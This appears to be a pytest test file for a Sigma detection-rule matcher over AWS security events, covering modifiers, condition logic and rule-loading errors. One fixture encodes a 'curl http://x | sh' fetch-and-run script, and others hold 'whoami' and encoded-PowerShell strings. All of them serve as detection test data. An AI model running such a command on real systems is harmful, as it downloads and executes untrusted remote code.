"""Native Sigma matching: every modifier and value type, positive and negative, on events built from the model."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from pathlib import Path
from textwrap import dedent, indent
from typing import Any

import pytest

from correlators.errors import RuleError
from correlators.model import (
    Actor,
    Alarm,
    Compliance,
    EntityType,
    EventSource,
    Finding,
    NormalizedEvent,
    Resource,
    Severity,
)
from correlators.sigma import DetectionRule, FieldView, load_rules


def _rule(tmp_path: Path, detection: str, service: str = "cloudtrail") -> DetectionRule:
    path = tmp_path / "rule.yml"
    path.write_text(
        "title: rule under test\n"
        f"logsource:\n  product: aws\n  service: {service}\n"
        f"detection:\n{indent(dedent(detection).strip(), '  ')}\n",
        encoding="utf-8",
    )
    (rule,) = load_rules([path]).detections
    return rule


def _event(raw: dict[str, Any] | None = None, **normalized: Any) -> NormalizedEvent:
    return NormalizedEvent(
        event_id="e-1",
        time=datetime(2023, 7, 10, 12, 0, tzinfo=UTC),
        source=normalized.pop("source", EventSource.CLOUDTRAIL),
        raw=raw or {},
        **normalized,
    )


def _matches(rule: DetectionRule, raw: dict[str, Any] | None = None, **normalized: Any) -> bool:
    return rule.matches(FieldView(_event(raw, **normalized)))


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


# (one selection line, raw event, expected) for each field or value type; keywords have their own table.
CASES = {
    "plain string is case-insensitive": ("eventName: createaccesskey", {"eventName": "CreateAccessKey"}, True),
    "plain string matches whole value": ("eventName: CreateAccessKey", {"eventName": "CreateAccessKey2"}, False),
    "star wildcard": ("eventName: 'Create*Key'", {"eventName": "CreateAccessKey"}, True),
    "question-mark wildcard": ("eventName: 'Create?ccessKey'", {"eventName": "CreateAccessKey"}, True),
    "question mark is one character": ("eventName: 'Create?Key'", {"eventName": "CreateAccessKey"}, False),
    "escaped star is literal": ("userAgent: 'a\\*b'", {"userAgent": "a*b"}, True),
    "escaped star is not a wildcard": ("userAgent: 'a\\*b'", {"userAgent": "axxb"}, False),
    "contains": ("userAgent|contains: RED-team", {"userAgent": "stratus-red-team_1"}, True),
    "contains, absent": ("userAgent|contains: red-team", {"userAgent": "aws-cli/2"}, False),
    "startswith": ("userAgent|startswith: Stratus", {"userAgent": "stratus-red-team"}, True),
    "startswith, elsewhere": ("userAgent|startswith: red", {"userAgent": "stratus-red-team"}, False),
    "endswith": ("userAgent|endswith: TEAM", {"userAgent": "stratus-red-team"}, True),
    "endswith, elsewhere": ("userAgent|endswith: red", {"userAgent": "stratus-red-team"}, False),
    "contains all": ("userAgent|contains|all: [stratus, team]", {"userAgent": "stratus-red-team"}, True),
    "contains all, one missing": ("userAgent|contains|all: [stratus, boto]", {"userAgent": "stratus-red-team"}, False),
    "value list is any-of": ("eventName: [StopLogging, DeleteTrail]", {"eventName": "DeleteTrail"}, True),
    "value list, none": ("eventName: [StopLogging, DeleteTrail]", {"eventName": "StartLogging"}, False),
    "re": (
        "userIdentity.arn|re: '.+:assumed-role/aws:.+'",
        {"userIdentity": {"arn": "arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1"}},
        True,
    ),
    "re is case-sensitive": ("eventName|re: '^create'", {"eventName": "CreateUser"}, False),
    "re with i flag": ("eventName|re|i: '^create'", {"eventName": "CreateUser"}, True),
    "re searches, not anchored": ("eventName|re: 'Access'", {"eventName": "CreateAccessKey"}, True),
    "cidr v4": ("sourceIPAddress|cidr: 10.0.0.0/8", {"sourceIPAddress": "10.20.30.40"}, True),
    "cidr v4, outside": ("sourceIPAddress|cidr: 10.0.0.0/8", {"sourceIPAddress": "11.0.0.1"}, False),
    "cidr, not an address": ("sourceIPAddress|cidr: 10.0.0.0/8", {"sourceIPAddress": "AWS Internal"}, False),
    "cidr v6": ("sourceIPAddress|cidr: '2001:db8::/32'", {"sourceIPAddress": "2001:db8::1"}, True),
    "cidr v6, v4 address": ("sourceIPAddress|cidr: '2001:db8::/32'", {"sourceIPAddress": "10.0.0.1"}, False),
    "exists true": ("errorCode|exists: true", {"errorCode": "AccessDenied"}, True),
    "exists true, absent": ("errorCode|exists: true", {}, False),
    "exists false, absent": ("errorCode|exists: false", {}, True),
    "exists false, present": ("errorCode|exists: false", {"errorCode": "AccessDenied"}, False),
    "null, absent": ("errorCode: null", {}, True),
    "null, null": ("errorCode: null", {"errorCode": None}, True),
    "null, present": ("errorCode: null", {"errorCode": "AccessDenied"}, False),
    "gt": ("requestParameters.maxResults|gt: 100", {"requestParameters": {"maxResults": 101}}, True),
    "gt, equal": ("requestParameters.maxResults|gt: 100", {"requestParameters": {"maxResults": 100}}, False),
    "gte": ("requestParameters.maxResults|gte: 100", {"requestParameters": {"maxResults": 100}}, True),
    "gte, below": ("requestParameters.maxResults|gte: 100", {"requestParameters": {"maxResults": 99.5}}, False),
    "lt": ("requestParameters.maxResults|lt: 10", {"requestParameters": {"maxResults": 9}}, True),
    "lt, equal": ("requestParameters.maxResults|lt: 10", {"requestParameters": {"maxResults": 10}}, False),
    "lte": ("requestParameters.maxResults|lte: 10", {"requestParameters": {"maxResults": 10}}, True),
    "lte, above": ("requestParameters.maxResults|lte: 10", {"requestParameters": {"maxResults": 11}}, False),
    "gt on a numeric string": (
        "requestParameters.maxResults|gt: 100",
        {"requestParameters": {"maxResults": "150"}},
        True,
    ),
    "gt on text": ("requestParameters.maxResults|gt: 100", {"requestParameters": {"maxResults": "many"}}, False),
    "gt on a boolean": ("requestParameters.flag|gt: 0", {"requestParameters": {"flag": True}}, False),
    "string matches a number": ("responseElements.status: '200'", {"responseElements": {"status": 200}}, True),
    "number matches a string": ("requestParameters.port: 22", {"requestParameters": {"port": "22"}}, True),
    "number, other number": ("requestParameters.port: 22", {"requestParameters": {"port": 23}}, False),
    "string 'false' matches JSON false": (
        "requestParameters.enable: 'false'",
        {"requestParameters": {"enable": False}},
        True,
    ),
    "boolean matches JSON boolean": ("requestParameters.enable: false", {"requestParameters": {"enable": False}}, True),
    "boolean matches its spelling": ("requestParameters.enable: true", {"requestParameters": {"enable": "True"}}, True),
    "boolean, other boolean": ("requestParameters.enable: false", {"requestParameters": {"enable": True}}, False),
    "boolean is not a number": ("requestParameters.enable: true", {"requestParameters": {"enable": 1}}, False),
    "fieldref": (
        "userIdentity.userName|fieldref: requestParameters.userName",
        {"userIdentity": {"userName": "Alice"}, "requestParameters": {"userName": "alice"}},
        True,
    ),
    "fieldref, different": (
        "userIdentity.userName|fieldref: requestParameters.userName",
        {"userIdentity": {"userName": "alice"}, "requestParameters": {"userName": "bob"}},
        False,
    ),
    "fieldref, other absent": (
        "userIdentity.userName|fieldref: requestParameters.userName",
        {"userIdentity": {"userName": "alice"}},
        False,
    ),
    "fieldref with endswith": (
        "userIdentity.arn|fieldref|endswith: requestParameters.userName",
        {"userIdentity": {"arn": "arn:aws:iam::1:user/alice"}, "requestParameters": {"userName": "alice"}},
        True,
    ),
    "fieldref with contains": (
        "userAgent|fieldref|contains: requestParameters.tool",
        {"userAgent": "Boto3/1.2 stratus-red-team", "requestParameters": {"tool": "Stratus-Red-Team"}},
        True,
    ),
    "base64": ("requestParameters.script|base64: whoami", {"requestParameters": {"script": _b64(b"whoami")}}, True),
    "base64, other text": (
        "requestParameters.script|base64: whoami",
        {"requestParameters": {"script": _b64(b"id")}},
        False,
    ),
    "base64offset contains": (
        "requestParameters.userData|base64offset|contains: 'curl '",
        {"requestParameters": {"userData": _b64(b"#!/bin/sh\ncurl http://x | sh")}},
        True,
    ),
    "base64offset contains, other text": (
        "requestParameters.userData|base64offset|contains: 'curl '",
        {"requestParameters": {"userData": _b64(b"#!/bin/sh\necho hello")}},
        False,
    ),
    "cased": ("eventName|cased: CreateUser", {"eventName": "CreateUser"}, True),
    "cased, other case": ("eventName|cased: CreateUser", {"eventName": "createuser"}, False),
    "cased contains": ("userAgent|cased|contains: Red", {"userAgent": "stratus-red"}, False),
    "windash": (
        "requestParameters.command|windash|contains: ' -enc '",
        {"requestParameters": {"command": "powershell /enc AAA"}},
        True,
    ),
    "windash, no flag": (
        "requestParameters.command|windash|contains: ' -enc '",
        {"requestParameters": {"command": "powershell enc AAA"}},
        False,
    ),
    "list-valued field, any element": (
        "resources.ARN|endswith: ':trail/org'",
        {"resources": [{"ARN": "arn:aws:s3:::b"}, {"ARN": "arn:aws:cloudtrail:us-east-1:1:trail/org"}]},
        True,
    ),
    "list-valued field, no element": (
        "resources.ARN|endswith: ':trail/org'",
        {"resources": [{"ARN": "arn:aws:s3:::b"}]},
        False,
    ),
    "list of scalars": (
        "requestParameters.instanceIds: i-2",
        {"requestParameters": {"instanceIds": ["i-1", "i-2"]}},
        True,
    ),
    "nested path": (
        "userIdentity.sessionContext.sessionIssuer.type: Role",
        {"userIdentity": {"sessionContext": {"sessionIssuer": {"type": "Role"}}}},
        True,
    ),
    "nested path, absent level": (
        "userIdentity.sessionContext.sessionIssuer.type: Role",
        {"userIdentity": {"type": "Root"}},
        False,
    ),
    "key with a dot in it": ("tags.aws:team: ml", {"tags.aws:team": "ml"}, True),
    "nested key with a dot in it": ("detail.tags.aws:team: ml", {"detail": {"tags.aws:team": "ml"}}, True),
}
KEYWORD_CASES = {
    "keyword anywhere in the event": (
        "keywords:\n  - 'stratus-red-team*'\ncondition: keywords",
        {"userAgent": "x", "nested": [{"agent": "stratus-red-team_7"}]},
        True,
    ),
    "keyword matches whole values": (
        "keywords:\n  - red-team\ncondition: keywords",
        {"userAgent": "stratus-red-team"},
        False,
    ),
    "keyword contains": (
        "keywords:\n  '|contains': red-team\ncondition: keywords",
        {"userAgent": "stratus-red-team"},
        True,
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_value_matching(tmp_path: Path, case: str) -> None:
    selection, raw, expected = CASES[case]
    assert _matches(_rule(tmp_path, f"sel:\n  {selection}\ncondition: sel"), raw) is expected


@pytest.mark.parametrize("case", sorted(KEYWORD_CASES))
def test_keyword_matching(tmp_path: Path, case: str) -> None:
    detection, raw, expected = KEYWORD_CASES[case]
    assert _matches(_rule(tmp_path, detection), raw) is expected


# Condition logic over three selections; events name which of them they satisfy.
CONDITIONS = {
    "sel_a and sel_b": {"ab": True, "a": False, "b": False},
    "sel_a or sel_b": {"a": True, "b": True, "": False},
    "sel_a and not filter_x": {"a": True, "ax": False},
    "1 of sel_*": {"a": True, "b": True, "x": False},
    "all of sel_*": {"ab": True, "a": False},
    "all of them": {"abxy": True, "abx": False},
    "sel_a and not all of filter_*": {"a": True, "ax": True, "axy": False},
    "sel_a and not 1 of filter_*": {"a": True, "ax": False, "ay": False},
    "(sel_a or sel_b) and not (filter_x or filter_y)": {"b": True, "bx": False},
}
SELECTIONS = "sel_a:\n  a: 1\nsel_b:\n  b: 1\nfilter_x:\n  x: 1\nfilter_y:\n  y: 1\n"


@pytest.mark.parametrize(
    ("condition", "event", "expected"), [(c, e, x) for c, es in CONDITIONS.items() for e, x in es.items()]
)
def test_condition(tmp_path: Path, condition: str, event: str, expected: bool) -> None:
    raw = dict.fromkeys(event, 1)
    rule = _rule(tmp_path, SELECTIONS + f"condition: '{condition}'")
    assert _matches(rule, raw) is expected


def test_several_conditions_are_alternatives(tmp_path: Path) -> None:
    rule = _rule(tmp_path, "sel_a:\n  a: 1\nsel_b:\n  b: 1\ncondition:\n  - sel_a\n  - sel_b")
    assert _matches(rule, {"b": 1})
    assert not _matches(rule, {"c": 1})


def test_selection_list_of_maps_is_any_of(tmp_path: Path) -> None:
    rule = _rule(
        tmp_path, "sel:\n  - eventSource: ssm.amazonaws.com\n  - eventName: RegisterManagedInstance\ncondition: sel"
    )
    assert _matches(rule, {"eventName": "RegisterManagedInstance"})
    assert not _matches(rule, {"eventName": "SendCommand"})


def test_cordon_fields(tmp_path: Path) -> None:
    # GIVEN a rule on normalized fields only
    rule = _rule(
        tmp_path,
        """
        sel:
          cordon.principal|endswith: ':role/trainer'
          cordon.asset_class: training_data
          cordon.resource_type: bucket
          cordon.outcome: success
        condition: sel
        """,
    )
    resources = [Resource(type=EntityType.BUCKET, id="arn:aws:s3:::data", asset_class="training_data")]
    actor = Actor(principal="arn:aws:iam::1:role/trainer")
    # THEN the normalized model answers, whatever the raw record says
    assert _matches(rule, {}, actor=actor, resources=resources)
    assert not _matches(rule, {}, actor=actor, resources=[Resource(type=EntityType.BUCKET, id="arn:aws:s3:::logs")])
    assert not _matches(rule, {}, resources=resources)


def test_cordon_finding_and_alarm_fields(tmp_path: Path) -> None:
    finding_rule = _rule(
        tmp_path,
        "sel:\n  cordon.finding.severity: high\n  cordon.finding.severity_score|gte: 7\ncondition: sel",
        "guardduty",
    )
    finding = Finding(
        type="UnauthorizedAccess:IAMUser/TorIPCaller", product="guardduty", severity=Severity.HIGH, severity_score=8.0
    )
    assert _matches(finding_rule, {}, source=EventSource.GUARDDUTY, finding=finding)
    assert not _matches(finding_rule, {}, source=EventSource.GUARDDUTY)

    alarm_rule = _rule(
        tmp_path,
        "sel:\n  cordon.alarm.state: ALARM\n  cordon.alarm.dimensions.EndpointName: fraud-*\ncondition: sel",
        "cloudwatch",
    )
    alarm = Alarm(name="invocations", state="ALARM", dimensions={"EndpointName": "fraud-v2"})
    assert _matches(alarm_rule, {}, source=EventSource.CLOUDWATCH, alarm=alarm)
    other = Alarm(name="invocations", state="ALARM", dimensions={"EndpointName": "churn"})
    assert not _matches(alarm_rule, {}, source=EventSource.CLOUDWATCH, alarm=other)


def test_cordon_config_fields(tmp_path: Path) -> None:
    # A managed rule matched by its identifier, whatever prefix or suffix the account's rule name carries.
    rule = _rule(
        tmp_path,
        """
        sel:
          cordon.config.rule|contains: s3-bucket-public-read-prohibited
          cordon.config.compliance: NON_COMPLIANT
        filter_was_already:
          cordon.config.previous_compliance: NON_COMPLIANT
        condition: sel and not filter_was_already
        """,
        "config",
    )

    def change(rule_name: str, new: str, old: str | None) -> Compliance:
        return Compliance(
            rule=rule_name,
            compliance=new,
            previous_compliance=old,
            resource_type="AWS::S3::Bucket",
            resource_id="acme-fraud-training",
        )

    turned = change("securityhub-s3-bucket-public-read-prohibited-a1b2c3", "NON_COMPLIANT", "COMPLIANT")
    first = change("s3-bucket-public-read-prohibited-conformance-pack-qayjyopmd", "NON_COMPLIANT", None)
    assert _matches(rule, {}, source=EventSource.CONFIG, compliance=turned)
    assert _matches(rule, {}, source=EventSource.CONFIG, compliance=first)
    assert not _matches(rule, {}, source=EventSource.CONFIG, compliance=change(turned.rule, "NOT_APPLICABLE", None))
    assert not _matches(
        rule, {}, source=EventSource.CONFIG, compliance=change(turned.rule, "COMPLIANT", "NON_COMPLIANT")
    )
    assert not _matches(
        rule, {}, source=EventSource.CONFIG, compliance=change(turned.rule, "NON_COMPLIANT", "NON_COMPLIANT")
    )
    assert not _matches(rule, {}, source=EventSource.CONFIG)  # no Config verdict: the fields are absent
    view = FieldView(_event(source=EventSource.CONFIG, compliance=turned))
    assert view.get("cordon.config.resource_type") == ["AWS::S3::Bucket"]
    assert view.get("cordon.config.resource_id") == ["acme-fraud-training"]
    assert view.get("cordon.config.annotation") == []


def test_field_view_reads_raw_and_normalized() -> None:
    view = FieldView(
        _event({"resources": [{"ARN": "a"}, {"ARN": "b"}], "x": {"y": [1, [2, 3]]}}, actor=Actor(account="123"))
    )
    assert view.get("resources.ARN") == ["a", "b"]
    assert view.get("x.y") == [1, 2, 3]
    assert view.get("x") == [{"y": [1, [2, 3]]}]
    assert view.get("missing.path") == []
    assert view.get("cordon.source") == ["cloudtrail"]
    assert view.get("cordon.session") == []
    assert sorted(map(str, view.all_values())) == ["1", "2", "3", "a", "b"]


def test_unknown_cordon_field_is_a_load_error(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match=r"rule\.yml:\d+: rule 'rule under test': unknown field 'cordon\.principle'"):
        _rule(tmp_path, "sel:\n  cordon.principle: x\ncondition: sel")


def test_unsupported_modifier_is_a_load_error_naming_file_line_and_modifier(tmp_path: Path) -> None:
    with pytest.raises(
        RuleError,
        match=r"rule\.yml:9: rule 'rule under test': modifier 'expand' on field 'sourceIPAddress' is not supported",
    ):
        _rule(
            tmp_path,
            "sel:\n  eventName: ConsoleLogin\n"
            "filter:\n  sourceIPAddress|expand: '%allowed_ips%'\n"
            "condition: sel and not filter",
        )


def test_date_part_modifier_is_a_load_error(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match=r"rule\.yml:7: rule 'rule under test': modifier 'hour' on field 'eventTime'"):
        _rule(tmp_path, "sel:\n  eventTime|hour: 3\ncondition: sel")


def test_unknown_modifier_is_a_load_error_at_its_line(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match=r"rule\.yml:9: Unknown modifier 'containz'"):
        _rule(tmp_path, "sel:\n  eventName: x\nother:\n  userAgent|containz: y\ncondition: sel and other")


def test_invalid_regular_expression_is_a_load_error_at_its_line(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match=r"rule\.yml:7: Regular expression '\(' is invalid"):
        _rule(tmp_path, "sel:\n  eventName|re: '('\ncondition: sel")
